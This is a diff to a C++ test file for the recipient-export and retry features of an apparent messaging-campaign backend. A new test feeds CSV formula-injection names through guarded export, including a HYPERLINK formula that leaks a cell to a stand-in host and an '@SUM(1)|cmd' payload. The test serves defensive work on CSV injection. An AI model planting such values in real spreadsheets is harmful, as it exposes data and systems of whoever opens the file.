@@ -2,12 +2,16 @@
 
 #include "stentor/core/audience/recipient_id.hpp"
 #include "stentor/core/audience/screening.hpp"
+#include "stentor/core/base/csv_cell.hpp"
 #include "tests/adapters/postgres/support/admin_side.hpp"
+#include "tests/support/sample_file.hpp"
 
 #include <nlohmann/json.hpp>
 
 #include <algorithm>
 #include <string>
+#include <utility>
+#include <vector>
 
 namespace stentor::postgres::testing {
 namespace {
@@ -74,7 +78,7 @@ TEST_F(recipients_test, the_timeline_tells_why_in_sentences) {
 TEST_F(recipients_test, the_export_streams_every_recipient) {
   std::string csv;
   ASSERT_TRUE(recipients
-                  ->export_csv(who, id,
+                  ->export_csv(who, id, ports::export_cells::guarded,
                                [&](std::string_view piece) {
                                  csv += piece;
                                  return true;
@@ -84,11 +88,87 @@ TEST_F(recipients_test, the_export_streams_every_recipient) {
   EXPECT_TRUE(csv.starts_with("id,seq,phoneNumber,"));
 }
 
+/// A name as an export writes it, read back as an import does.
+TEST_F(recipients_test, cells_like_formulas_go_out_guarded_and_come_back) {
+  const std::vector<std::string> names{"=HYPERLINK(\"http://x/\"&A2)",
+                                       "@SUM(1)|cmd",
+                                       "-2+3",
+                                       "-5",
+                                       "+4915112345678",
+                                       "\t=1",
+                                       "'=1",
+                                       "''-x",
+                                       "'t Hooft",
+                                       "Ana",
+                                       "+49 151",
+                                       "-2.5",
+                                       "'-5"};
+  const auto draft = make_draft();
+  std::vector<ports::contact_input> people;
+  for (std::size_t i = 0; i < names.size(); ++i)
+    people.push_back({"+49151" + std::to_string(12340000 + i), "", names[i], "", {}});
+  static_cast<void>(need(recipients->add(who, draft, people)));
+  const auto exported = [&](const std::string& campaign, ports::export_cells cells) {
+    std::string csv;
+    EXPECT_TRUE(recipients
+                    ->export_csv(who, campaign, cells,
+                                 [&](std::string_view piece) {
+                                   csv += piece;
+                                   return true;
+                                 })
+                    .ok());
+    std::vector<std::string> cells_of_names;
+    for (const auto& row : sample::rows_of_text(csv))
+      cells_of_names.push_back(row.at("name"));
+    return std::pair{csv, cells_of_names};
+  };
+  EXPECT_EQ(exported(draft, ports::export_cells::raw).second, names);
+  const auto [csv, guarded] = exported(draft, ports::export_cells::guarded);
+  ASSERT_EQ(guarded.size(), names.size());
+  for (std::size_t i = 0; i < names.size(); ++i)
+    EXPECT_EQ(guarded[i], (core::is_like_formula(names[i]) ? "'" : "") + names[i]);
+  const auto again = make_draft();
+  auto import = need(recipients->import_csv(who, again, {}));
+  ASSERT_TRUE(import->feed(csv).ok());
+  EXPECT_EQ(need(import->finish()).rows_added, static_cast<std::int64_t>(names.size()));
+  EXPECT_EQ(exported(again, ports::export_cells::raw).second, names);
+}
+
+TEST_F(recipients_test, who_failed_can_be_sent_to_again) {
+  base.run(
+      "INSERT INTO ledger_writer (writer, folded) VALUES (1, 2); INSERT INTO delivery "
+      "(campaign_no, seq, state, attempt, failed_attempt, error_code, failed_ms) VALUES (1, 5, "
+      "6, 3, 3, 132000, 1001000)");
+  ports::failed_choice choice;
+  choice.codes = {132000};
+  EXPECT_EQ(need(recipients->retry_failed(who, id, choice)), 1);
+  EXPECT_EQ(base.text("SELECT seq || ' ' || attempt || ' ' || retries || ' ' || state FROM "
+                      "retry_queue"),
+            "5 4 0 0");
+  EXPECT_EQ(base.text("SELECT kind || ' ' || attempt FROM delivery_event WHERE seq = 5"),
+            "reopened 4");
+  EXPECT_EQ(base.text("SELECT action FROM audit_log ORDER BY no DESC LIMIT 1"), "campaign.retry");
+  EXPECT_EQ(need(recipients->retry_failed(who, id, choice)), 0) << "they are queued already";
+  choice.codes.clear();
+  choice.seqs = {1, 4, 99};
+  EXPECT_EQ(need(recipients->retry_failed(who, id, choice)), 1) << "1 was read, 99 is nobody";
+  base.run("UPDATE campaign SET status = 'cancelled'");
+  EXPECT_EQ(recipients->retry_failed(who, id, choice).error().code, errc::conflict);
+  EXPECT_EQ(recipients->retry_failed(stranger, id, choice).error().code, errc::not_found);
+}
+
+TEST_F(recipients_test, a_receipt_that_is_not_folded_yet_keeps_a_person_from_a_second_message) {
+  base.run("INSERT INTO ledger_writer (writer, folded) VALUES (1, 0)"); // batch 1 names recipient 4
+  ports::failed_choice choice;
+  choice.seqs = {4};
+  EXPECT_EQ(need(recipients->retry_failed(who, id, choice)), 0);
+}
+
 TEST_F(recipients_test, another_organization_sees_nobody) {
   EXPECT_EQ(recipients->list(stranger, id, "", {}).error().code, errc::not_found);
   EXPECT_EQ(recipients->timeline(stranger, id, "1").error().code, errc::not_found);
   EXPECT_EQ(recipients->add(stranger, id, people(1)).error().code, errc::not_found);
-  EXPECT_EQ(recipients->export_csv(stranger, id, [](auto) { return true; }).error().code,
+  EXPECT_EQ(recipients->export_csv(stranger, id, {}, [](auto) { return true; }).error().code,
             errc::not_found);
 }
 
